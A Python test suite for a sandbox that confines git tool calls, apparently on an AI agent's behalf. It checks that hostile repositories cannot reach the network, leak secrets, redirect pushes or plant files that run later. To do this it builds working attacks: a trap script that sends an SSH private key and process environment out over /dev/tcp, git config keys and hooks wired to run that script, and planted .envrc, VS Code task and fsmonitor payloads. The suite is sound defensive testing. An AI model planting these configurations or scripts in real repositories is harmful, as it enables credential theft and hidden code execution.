"""A repository that is the attacker's: what it makes git run has nothing to reach, and a push goes where was judged."""

import asyncio
import os
import socket
import subprocess
import threading
from collections.abc import Generator
from pathlib import Path

import pytest

from curtainwall.facts import canonical_remotes
from curtainwall.model import BadCall, HostFacts, Mode, Scope
from curtainwall.tools.git import network as git_network
from curtainwall.tools.git.confined import read_marker
from curtainwall.tools.runners import CannotDo
from tests.support.git_server import GitServer, git, serving
from tests.support.machines import SECRET, Machine
from tests.support.waiting import until

pytestmark = pytest.mark.usefixtures("bubblewrap")


class Trap:
    """A listener that counts who gets through, a script that tries everything, and a mark that it leaves in the home directory."""

    def __init__(self, machine: Machine) -> None:
        self.machine = machine
        self.heard: list[bytes] = []
        self._server = socket.create_server(("127.0.0.1", 0))
        self.port = self._server.getsockname()[1]
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()
        self.mark = machine.root / "home/pwned"
        self.where = machine.workspace / "r"
        self.where.mkdir()
        self.script = self.where / "trap.sh"
        key = machine.root / "home/.ssh/id_ed25519"
        self.script.write_text(
            "#!/bin/bash\n"
            f"echo ran >> {self.where}/ran 2>/dev/null\n"
            f"echo pwned > {self.mark} 2>/dev/null\n"
            f"{{ exec 9<>/dev/tcp/127.0.0.1/{self.port} && {{ echo got through; cat {key}; }} >&9; }} 2>/dev/null\n"
            f"[ -t 0 ] || cat; cat {key} /proc/1/environ 2>/dev/null\nexit 0\n"
        )
        self.script.chmod(0o755)

    def _serve(self) -> None:
        while True:
            try:
                client, _ = self._server.accept()
            except OSError:
                return
            with client:
                self.heard.append(client.recv(1000))

    @property
    def ran(self) -> bool:
        return (self.where / "ran").exists()

    def close(self) -> None:
        self._server.shutdown(socket.SHUT_RDWR)
        self._server.close()
        self._thread.join(5)


@pytest.fixture
def machine(tmp_path: Path) -> Machine:
    return Machine.at(tmp_path)


@pytest.fixture
def trap(machine: Machine) -> Generator[Trap]:
    made = Trap(machine)
    yield made
    made.close()


@pytest.fixture
def server(machine: Machine) -> Generator[GitServer]:
    (machine.root / "served").mkdir()
    with serving(machine.root / "served") as made:
        yield made


@pytest.fixture
def repository(machine: Machine, trap: Trap) -> Path:
    """A repository in which everything that git can be made to run is the trap."""
    where = machine.workspace / "r"
    git("init", "--quiet", "--initial-branch=main", str(where))
    (where / "a.txt").write_text("one\n")
    git("add", "a.txt", cwd=where)
    git("commit", "--quiet", "-m", "first", cwd=where)
    (where / "a.txt").write_text("two\n")
    (where / ".gitattributes").write_text("*.txt filter=trap diff=trap merge=trap\n")
    for hook in (where / ".git/hooks").iterdir():
        hook.unlink()
    names = "pre-commit prepare-commit-msg commit-msg post-commit post-checkout post-merge pre-push reference-transaction post-index-change"
    for name in names.split():
        (where / ".git/hooks" / name).symlink_to(trap.script)
    evil = str(trap.script)
    settings = {
        "core.fsmonitor": evil, "core.pager": evil, "core.editor": evil, "core.sshCommand": evil, "core.askPass": evil,
        "core.hooksPath": f"{where}/.git/hooks", "core.gitProxy": evil, "core.alternateRefsCommand": evil, "credential.helper": f"!{evil}",
        "diff.external": evil, "diff.trap.textconv": evil, "diff.trap.command": evil, "filter.trap.clean": evil, "filter.trap.smudge": evil,
        "merge.trap.driver": evil, "gpg.program": evil, "commit.gpgSign": "true", "alias.status": f"!{evil}", "alias.log": f"!{evil}",
        "pager.log": evil, "sequence.editor": evil, "uploadpack.packObjectsHook": evil, "log.showSignature": "true",
        "http.proxy": f"127.0.0.1:{trap.port}", "remote.origin.uploadpack": evil, "remote.origin.receivepack": evil,
        "remote.origin.proxy": f"127.0.0.1:{trap.port}", "gc.recentObjectsHook": evil, "interactive.diffFilter": evil,
    }  # fmt: skip
    for name, value in settings.items():
        git("config", name, value, cwd=where)
    return where


LOCAL = [
    ("git.status", {}),
    ("git.diff", {}),
    ("git.diff", {"ref": "HEAD", "files": ["a.txt"]}),
    ("git.log", {}),
    ("git.show", {"ref": "HEAD"}),
    ("git.add", {"files": ["a.txt"]}),
    ("git.commit", {"message": "second"}),
    ("git.branch", {"name": "b"}),
    ("git.checkout", {"ref": "c", "create": True}),
]


def test_the_trap_works_where_nothing_confines_it(repository: Path, trap: Trap) -> None:
    subprocess.run(["git", "add", "a.txt"], cwd=repository, check=False, capture_output=True, timeout=90)
    assert trap.ran
    assert trap.mark.exists()
    until(lambda: trap.heard)
    assert trap.heard[0].startswith(b"got through")


@pytest.mark.parametrize(("tool", "arguments"), LOCAL, ids=[f"{tool}{number}" for number, (tool, _) in enumerate(LOCAL)])
def test_what_a_repository_makes_git_run_reaches_nothing(
    machine: Machine, repository: Path, trap: Trap, tool: str, arguments: dict[str, object]
) -> None:
    result = machine.call(tool, path="r", **arguments)  # type: ignore[arg-type] - plain arguments
    assert trap.heard == []
    assert not trap.mark.exists()
    assert SECRET not in str(result.value)


def test_a_filter_does_run_but_inside(machine: Machine, repository: Path, trap: Trap) -> None:
    machine.call("git.add", path="r", files=["a.txt"])
    assert trap.ran
    assert trap.heard == []
    assert not trap.mark.exists()


def test_included_files_outside_are_not_there(machine: Machine, trap: Trap) -> None:
    where = machine.workspace / "i"
    git("init", "--quiet", str(where))
    secret = machine.root / "home/.config-secret"
    secret.write_text(f"[alias]\n\tx = {SECRET}\n")
    git("config", "include.path", str(secret), cwd=where)
    assert SECRET in git("config", "--list", cwd=where)
    assert SECRET not in str(machine.call("git.status", path="i").value)
    assert SECRET not in machine.out("git -C i config --list")


def test_the_network_step_sees_nothing_of_the_repositorys_config(machine: Machine, repository: Path, trap: Trap, server: GitServer) -> None:
    server.make("ann/r.git")
    for name in ("remote.origin.proxy", "remote.origin.uploadpack", "remote.origin.receivepack"):
        git("config", "--unset", name, cwd=repository)
    git("config", "remote.origin.url", server.url("ann/r.git"), cwd=repository)
    git("config", f"http.{server.url('ann')}.extraHeader", "X-Leak: 1", cwd=repository)
    assert "[new branch]" in machine.done("git.push", path="r")
    machine.done("git.fetch", path="r")
    assert trap.heard == []
    assert not trap.mark.exists()
    assert git("-C", str(server.root / "ann/r.git"), "log", "--format=%s", "main") == "first\n"
    # Git itself, in the same repository, walks into the trap.
    subprocess.run(["git", "fetch"], cwd=repository, check=False, capture_output=True, timeout=90, env={"PATH": os.environ["PATH"]})
    until(lambda: trap.heard)


def test_a_push_goes_to_the_judged_url_or_nowhere(machine: Machine, server: GitServer) -> None:
    server.make("ann/good.git")
    server.make("eve/evil.git")
    where = machine.workspace / "p"
    git("init", "--quiet", "--initial-branch=main", str(where))
    git("commit", "--quiet", "--allow-empty", "-m", "first", cwd=where)
    git("remote", "add", "origin", server.url("ann/good.git"), cwd=where)
    judged = machine.prepare("git.push", path="p")
    assert [one.value for one in judged.subject.resources if one.role == "write-remote"] == [f"127.0.0.1:{server.port}/ann/good"]
    for attack in (
        ("remote.origin.pushurl", server.url("eve/evil.git")),
        (f"url.{server.url('eve/evil')}.insteadOf", server.url("ann/good")),
        (f"url.{server.url('eve/evil')}.pushInsteadOf", server.url("ann/good")),
    ):
        git("config", *attack, cwd=where)
        result = asyncio.run(machine.run(judged))
        assert not result.ok
        assert "elsewhere" in str(result.value) or "changed" in str(result.value)
        # Judged anew, the new place is what is judged.
        again = [one.value for one in machine.prepare("git.push", path="p").subject.resources if one.role == "write-remote"]
        assert again == [f"127.0.0.1:{server.port}/eve/evil"]
        git("config", "--unset", attack[0], cwd=where)
    assert [line for line in server.asked if "eve" in line] == []
    assert asyncio.run(machine.run(judged)).ok
    assert any("ann/good.git/git-receive-pack" in line for line in server.asked)


def test_a_redirect_to_another_place_is_not_followed(machine: Machine, server: GitServer) -> None:
    path = server.make("eve/evil.git")
    git("-C", str(path), "commit-tree", "-m", "x", git("-C", str(path), "hash-object", "-t", "tree", "-w", "/dev/null").strip())
    server.redirects["/ann/moved.git"] = server.url("eve/evil.git")
    told = machine.fault("git.clone", url=server.url("ann/moved.git"), path="m")
    assert "redirect" in told.lower() or "302" in told
    assert [line for line in server.asked if "/eve/" in line] == []
    assert not (machine.workspace / "m").exists()
    # Git by itself would have followed.
    git("ls-remote", server.url("ann/moved.git"))
    assert [line for line in server.asked if "/eve/" in line] != []


def test_submodules_are_not_fetched_on_the_way(machine: Machine, server: GitServer, tmp_path: Path) -> None:
    server.make("ann/outer.git")
    where = tmp_path / "made"
    git("init", "--quiet", "--initial-branch=main", str(where))
    (where / ".gitmodules").write_text(f'[submodule "s"]\n\tpath = s\n\turl = {server.url("eve/inner.git")}\n')
    git("add", ".", cwd=where)
    git("update-index", "--add", "--cacheinfo", f"160000,{'1' * 40},s", cwd=where)
    git("commit", "--quiet", "-m", "first", cwd=where)
    git("push", "--quiet", server.url("ann/outer.git"), "main", cwd=where)
    machine.done("git.clone", url=server.url("ann/outer.git"), path="o")
    git("config", "submodule.recurse", "true", cwd=machine.workspace / "o")
    machine.done("git.pull", path="o")
    assert (machine.workspace / "o/.gitmodules").exists()
    assert [line for line in server.asked if "eve" in line] == []


def test_a_tree_that_would_write_into_git_is_not_taken(machine: Machine, server: GitServer, tmp_path: Path) -> None:
    path = server.make("eve/tree.git")
    blob = subprocess.run(
        ["git", "-C", str(path), "hash-object", "-w", "--stdin"], input=b"evil", capture_output=True, check=True
    ).stdout.strip()
    entry = b"100755 config\0" + bytes.fromhex(blob.decode())

    def tree(content: bytes) -> bytes:
        made = ["git", "-C", str(path), "hash-object", "-t", "tree", "-w", "--literally", "--stdin"]
        return subprocess.run(made, input=content, capture_output=True, check=True).stdout.strip()

    top = tree(b"40000 .git\0" + bytes.fromhex(tree(entry).decode()))
    git("-C", str(path), "update-ref", "refs/heads/main", git("-C", str(path), "commit-tree", "-m", "x", top.decode()).strip())
    assert "hasDotgit" in machine.fault("git.clone", url=server.url("eve/tree.git"), path="t")
    assert not (machine.workspace / "t").exists()


def test_objects_of_another_repository_cannot_be_published(machine: Machine, server: GitServer) -> None:
    target = server.make("eve/drop.git")
    private = machine.root / "home/private"
    git("init", "--quiet", "--initial-branch=main", str(private))
    (private / "secret").write_text(SECRET)
    git("add", ".", cwd=private)
    git("commit", "--quiet", "-m", "private", cwd=private)
    where = machine.workspace / "thief"
    git("init", "--quiet", "--initial-branch=main", str(where))
    (where / ".git/objects/info/alternates").write_text(f"{private}/.git/objects\n")
    (where / ".git/refs/heads/main").write_text(git("-C", str(private), "rev-parse", "HEAD"))
    assert git("log", "--format=%s", cwd=where) == "private\n"
    assert not machine.call("git.push", path="thief", remote=server.url("eve/drop.git")).ok
    assert git("-C", str(target), "for-each-ref") == ""
    # The same push by git itself would have published it.
    git("push", "--quiet", server.url("eve/drop.git"), "main", cwd=where)
    assert "refs/heads/main" in git("-C", str(target), "for-each-ref")


def test_a_repository_whose_files_lie_elsewhere_is_refused(machine: Machine) -> None:
    private = machine.root / "home/private"
    git("init", "--quiet", str(private))
    (machine.workspace / "w").mkdir()
    (machine.workspace / "w/.git").write_text(f"gitdir: {private}/.git\n")
    (machine.workspace / "l").mkdir()
    (machine.workspace / "l/.git").symlink_to(private / ".git")
    assert git("-C", str(machine.workspace / "w"), "rev-parse", "--git-dir").strip() == f"{private}/.git"
    for name in ("w", "l"):
        assert "outside of what this call may touch" in machine.fault("git.status", path=name)


def test_git_in_a_project_cannot_plant_what_runs_later(tmp_path: Path) -> None:
    project = Machine.at(tmp_path, own=False, mode=Mode.ACCEPT_EDITS)
    where = project.workspace
    git("init", "--quiet", "--initial-branch=main", str(where))
    (where / "tool.sh").write_text(
        "cat; echo evil > .git/hooks/pre-commit; echo evil >> .git/config; mv .git .old; mkdir -p .git/hooks; "
        "echo evil > .git/commondir; echo evil > .envrc; exit 0"
    )
    (where / ".gitattributes").write_text("*.txt filter=own\n")
    (where / "a.txt").write_text("x")
    git("config", "filter.own.clean", "sh ./tool.sh", cwd=where)
    before = (where / ".git/config").read_text()
    told = project.done("git.add", files=["a.txt"])
    assert "A  a.txt" in told
    assert "`.envrc.held`" in told
    assert (where / ".git/config").read_text() == before
    assert not (where / ".git/hooks/pre-commit").exists()
    assert not (where / ".git/commondir").exists()
    assert not (where / ".envrc").exists()


def test_a_switch_that_would_change_what_runs_later_is_a_humans(tmp_path: Path) -> None:
    project = Machine.at(tmp_path, own=False, mode=Mode.ACCEPT_EDITS)
    where = project.workspace
    git("init", "--quiet", "--initial-branch=main", str(where))
    git("commit", "--quiet", "--allow-empty", "-m", "first", cwd=where)
    git("checkout", "--quiet", "-b", "evil", cwd=where)
    (where / ".envrc").write_text("evil")
    git("add", ".", cwd=where)
    git("commit", "--quiet", "-m", "second", cwd=where)
    git("checkout", "--quiet", "main", cwd=where)
    assert "`.envrc`" in project.fault("git.checkout", ref="evil")
    assert not (where / ".envrc").exists()
    project.as_(Mode.BYPASS).done("git.checkout", ref="evil")
    assert (where / ".envrc").exists()


@pytest.mark.parametrize("name", [".envrc", "sub/.vscode/tasks.json"])
def test_a_clone_brings_nothing_into_a_project_that_runs_later(machine: Machine, server: GitServer, tmp_path: Path, name: str) -> None:
    server.make("eve/gift.git")
    where = tmp_path / "made"
    (where / name).parent.mkdir(parents=True)
    (where / name).write_text("touch ran\n")
    git("init", "--quiet", "--initial-branch=main", str(where))
    git("add", ".", cwd=where)
    git("commit", "--quiet", "-m", "first", cwd=where)
    git("push", "--quiet", server.url("eve/gift.git"), "main", cwd=where)
    project = Machine.at(machine.root, own=False, mode=Mode.ACCEPT_EDITS)
    assert "run later by themselves" in project.fault("git.clone", url=server.url("eve/gift.git"), path="g")
    assert not (project.workspace / "g").exists()
    # In a workspace of its own it is the session's business.
    machine.done("git.clone", url=server.url("eve/gift.git"), path="own")
    assert (machine.workspace / "own" / name).exists()


@pytest.mark.parametrize("without", ["127.0.0.1", "*", "example.org, 127.0.0.1"])
def test_a_host_that_the_proxy_is_not_for_is_held_to_its_address(server: GitServer, without: str) -> None:
    """Git would go there directly, so its address has to be looked at."""
    looked: list[str] = []

    async def look(facts: HostFacts, _own_ports: frozenset[int]) -> list[str]:
        looked.append(facts.host)
        return ["127.0.0.1"]

    server.make("ann/r.git")
    target = git_network.GitTarget(server.url("ann/r.git"), canonical_remotes(server.url("ann/r.git"), repository=None, push=False)[0].host)
    environ = {"http_proxy": "http://127.0.0.1:9", "no_proxy": without}

    async def go() -> None:
        async with git_network.clean_repository() as clean:
            await git_network.run_on_network(["ls-remote", target.url], clean, target, git_network.GitNetwork(environ, look_up=look))

    asyncio.run(go())
    assert looked == ["127.0.0.1"]


def test_a_pipe_in_the_place_of_a_repository_keeps_nobody_waiting(tmp_path: Path) -> None:
    """What was a file when it was looked at may be a pipe when it is opened; that would stop the whole house."""
    os.mkfifo(tmp_path / ".git")
    with pytest.raises(CannotDo, match="no regular file"):
        read_marker(str(tmp_path / ".git"))


def refused(machine: Machine, tool: str, **arguments: str) -> str:
    with pytest.raises(BadCall) as bad:
        machine.prepare(tool, **arguments)
    return str(bad.value)


def test_a_pointer_to_another_repository_tells_nothing_of_it(machine: Machine) -> None:
    private = machine.root / "home/private"
    git("init", "--quiet", str(private))
    git("-C", str(private), "config", "remote.origin.url", "https://hush%40hush@git.private.example/onlyone")
    planted = machine.workspace / "planted"
    planted.mkdir()
    for name in ("fetch", "push"):
        (planted / ".git").write_text(f"gitdir: {private}/.git\n")
        told = refused(machine, f"git.{name}", path="planted")
        assert "leads out of" in told
        assert "hush" not in told
        assert "private.example" not in told


def test_a_repository_above_the_workspace_tells_nothing_of_itself(machine: Machine) -> None:
    git("init", "--quiet", str(machine.workspace.parent))
    git("-C", str(machine.workspace.parent), "config", "remote.origin.url", "https://hush%40hush@git.private.example/onlyone")
    told = refused(machine, "git.fetch")
    assert "hush" not in told
    assert "private.example" not in told


def test_our_own_port_is_forbidden_ground_for_remotes_before_anybody_is_asked() -> None:
    (remote,) = canonical_remotes("http://127.0.0.1:8765/a/b", repository=None, push=False, own_ports=frozenset({8765}))
    assert remote.host.scope is Scope.FORBIDDEN


def test_a_clone_brings_no_repository_of_another_name_into_a_project(machine: Machine, server: GitServer, tmp_path: Path) -> None:
    source = tmp_path / "source"
    git("init", "--quiet", "--initial-branch=main", str(source))
    for name in ("HEAD", "config", "objects/x", "refs/x"):
        (source / "docs" / name).parent.mkdir(parents=True, exist_ok=True)
        (source / "docs" / name).write_text("ref: refs/heads/main\n" if name == "HEAD" else "[core]\n\tfsmonitor = touch /tmp/pwned\n")
    git("add", ".", cwd=source)
    git("commit", "--quiet", "-m", "gift", cwd=source)
    git("push", "--quiet", str(server.make("eve/nested.git")), "main", cwd=source)
    project = Machine.at(tmp_path / "p", own=False, mode=Mode.ACCEPT_EDITS)
    assert "`docs/HEAD`, which run later by themselves" in project.fault("git.clone", url=server.url("eve/nested.git"), path="g")
    assert not (project.workspace / "g").exists()
    machine.done("git.clone", url=server.url("eve/nested.git"), path="own")
